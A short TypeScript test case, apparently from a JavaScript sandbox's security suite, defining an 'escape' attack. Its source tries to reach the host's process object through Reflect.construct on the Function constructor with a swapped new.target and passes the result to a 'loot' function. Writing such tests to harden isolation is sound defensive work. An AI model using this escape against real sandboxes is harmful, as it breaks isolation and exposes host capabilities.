import { attack } from '../attack.ts';

/** The constructor is used with another new.target: the prototype comes from there. */
export const escape = attack({
	grants: [],
	source: `
		const Made = Reflect.construct(Function, ['return typeof process === "object" ? process : this'], Object);
		try { return loot(Reflect.apply(Made, undefined, []).process); } catch (error) { return loot(error); }
	`,
});
